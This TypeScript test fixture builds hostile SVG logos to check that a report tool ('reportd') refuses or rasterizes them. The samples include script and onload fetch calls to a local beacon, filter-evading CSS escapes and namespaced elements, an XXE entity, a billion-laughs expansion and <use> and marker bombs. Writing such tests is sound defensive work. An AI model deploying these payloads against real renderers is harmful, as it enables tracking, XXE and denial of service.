/**
 * Logos a hostile or careless author could hand reportd, each aimed at `beacon` (a local listener
 * that counts what reaches it): the twelve obvious attacks, the eight variants a pattern filter
 * missed, and two that cost rather than call (a `<use>` bomb, a marker bomb). `refused` is the
 * reason `reportd check` must give; without one the logo must ship, as a PNG only.
 */
export interface HostileLogo {
  file: string;
  content: string | Buffer;
  refused?: RegExp;
}

const SVG = 'http://www.w3.org/2000/svg';
const XHTML = 'http://www.w3.org/1999/xhtml';
const XLINK = 'http://www.w3.org/1999/xlink';
const svg = (body: string, attributes = '') =>
  `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" width="120" height="40"${attributes}><rect width="120" height="40" fill="#b0301c"/>${body}</svg>`;

const OUTSIDE = /is refused: it refers to something outside the file/;
const ENTITIES = /is refused: it declares entities/;
const EXPANDS = /is refused: it expands to more than 20,000 nodes/;

/** Ten levels of ten `<use>` of the level below: 1.8 KB that expands to ten billion rectangles. */
function useBomb(): string {
  let defs = '<rect id="l0" width="1" height="1"/>';
  for (let level = 1; level <= 10; level++)
    defs += `<g id="l${level}">${`<use href="#l${level - 1}"/>`.repeat(10)}</g>`;
  return `<svg xmlns="${SVG}" width="10" height="10"><defs>${defs}</defs><use href="#l10"/></svg>`;
}

/** A marker of 100 circles on each of 5,000 vertices: half a million nodes resvg's own limit lets by. */
function markerBomb(): string {
  const vertices = Array.from({ length: 5_000 }, (_, i) => `L${i % 100} ${i % 37}`).join(' ');
  return svg(
    `<defs><marker id="m" markerWidth="5" markerHeight="5">${'<circle r="1"/>'.repeat(100)}</marker></defs><path d="M0 0 ${vertices}" marker-mid="url(#m)" stroke="black"/>`,
  );
}

/** The constructs that must ship as pixels, all in one file: what the PDF and email tests deliver. */
export function everyShippedAttack(beacon: string): string {
  return svg(
    `<script>fetch("${beacon}/all-script")</script>` +
      `<foreignObject width="50" height="20"><iframe xmlns="${XHTML}" src="${beacon}/all-fo"/></foreignObject>` +
      `<style>@import url("${beacon}/all-import.css"); rect { fill: \\75rl(${beacon}/all-esc.png); } @\\69mport "${beacon}/all-esc-import.css"; @font-face { font-family: x; src: url(${beacon}/all-font.woff); }</style>` +
      `<s:script xmlns:s="${SVG}">fetch("${beacon}/all-ns-script")</s:script>` +
      `<h:img xmlns:h="${XHTML}" src="${beacon}/all-h-img"/><h:script xmlns:h="${XHTML}">fetch("${beacon}/all-h-script")</h:script>` +
      `<a><set attributeName="href" to="${beacon}/all-smil"/><circle cx="20" cy="20" r="10" fill="#fff" style="stroke: url(${beacon}/all-stroke.png)"/></a>`,
    ` onload="fetch('${beacon}/all-onload')"`,
  );
}

export function hostileLogos(beacon: string): HostileLogo[] {
  return [
    // The obvious twelve.
    { file: 'script.svg', content: svg(`<script>fetch("${beacon}/script")</script>`) },
    { file: 'onload.svg', content: svg('', ` onload="fetch('${beacon}/onload')"`) },
    {
      file: 'foreign-object.svg',
      content: svg(
        `<foreignObject width="100" height="40"><body xmlns="${XHTML}"><img src="${beacon}/fo"/></body></foreignObject>`,
      ),
    },
    {
      file: 'external-image.svg',
      content: svg(`<image href="${beacon}/image.png" width="10" height="10"/>`),
      refused: OUTSIDE,
    },
    {
      file: 'external-use.svg',
      content: svg(`<use xlink:href="${beacon}/sprite.svg#logo"/>`),
      refused: OUTSIDE,
    },
    { file: 'import.svg', content: svg(`<style>@import url("${beacon}/import.css");</style>`) },
    {
      file: 'css-url.svg',
      content: svg(
        `<circle r="5" style="fill: url(${beacon}/fill.png)"/><style>circle { stroke: url("${beacon}/stroke.png") }</style>`,
      ),
    },
    {
      file: 'javascript-href.svg',
      content: svg(`<a href="javascript:fetch('${beacon}/js')"><circle r="5"/></a>`),
      refused: OUTSIDE,
    },
    {
      file: 'entities.svg',
      content: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>${svg('<text y="20">&d;&d;&d;&d;</text>')}`,
      refused: ENTITIES,
    },
    {
      file: 'xxe.svg',
      content: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${beacon}/xxe">]>${svg('<text y="20">&x;</text>')}`,
      refused: ENTITIES,
    },
    {
      file: 'huge.svg',
      content: Buffer.concat([
        Buffer.from(svg('<!--')),
        Buffer.alloc(50 * 1024 * 1024, 0x20),
        Buffer.from('-->'),
      ]),
      refused: /huge\.svg is 51\d{3} KB, more than the 256 KB a logo may be$/,
    },
    {
      file: 'page.png',
      content: `<!doctype html><html><body><img src="${beacon}/html"><script>fetch("${beacon}/html-script")</script></body></html>`,
      refused: /page\.png is not a PNG, JPEG or SVG file$/,
    },
    // The eight variants.
    {
      file: 'ns-script.svg',
      content: `<s:svg xmlns:s="${SVG}" width="120" height="40"><s:rect width="120" height="40" fill="#1c7a3e"/><s:script>fetch("${beacon}/ns-script")</s:script></s:svg>`,
    },
    {
      file: 'ns-foreign-object.svg',
      content: `<s:svg xmlns:s="${SVG}" width="120" height="40"><s:rect width="120" height="40"/><s:foreignObject width="100" height="40"><h:iframe xmlns:h="${XHTML}" src="${beacon}/ns-fo"/></s:foreignObject></s:svg>`,
    },
    { file: 'xhtml-img.svg', content: svg(`<h:img xmlns:h="${XHTML}" src="${beacon}/h-img"/>`) },
    {
      file: 'xhtml-script.svg',
      content: svg(`<h:script xmlns:h="${XHTML}">fetch("${beacon}/h-script")</h:script>`),
    },
    {
      file: 'css-escape-url.svg',
      content: svg(`<style>rect { fill: \\75rl(${beacon}/esc-url.png); }</style>`),
    },
    { file: 'css-escape-import.svg', content: svg(`<style>@\\69mport "${beacon}/esc-import.css";</style>`) },
    {
      file: 'smil.svg',
      content: svg(
        `<a><set attributeName="href" to="${beacon}/smil"/><circle r="5"/></a><image width="5" height="5"><set attributeName="href" to="${beacon}/smil-image.png"/></image>`,
      ),
    },
    {
      file: 'javascript-entity.svg',
      content: svg(`<a href="&#106;avascript:fetch('${beacon}/js-entity')"><circle r="5"/></a>`),
      refused: OUTSIDE,
    },
    // Cost, not calls.
    { file: 'use-bomb.svg', content: useBomb(), refused: EXPANDS },
    { file: 'marker-bomb.svg', content: markerBomb(), refused: EXPANDS },
  ];
}
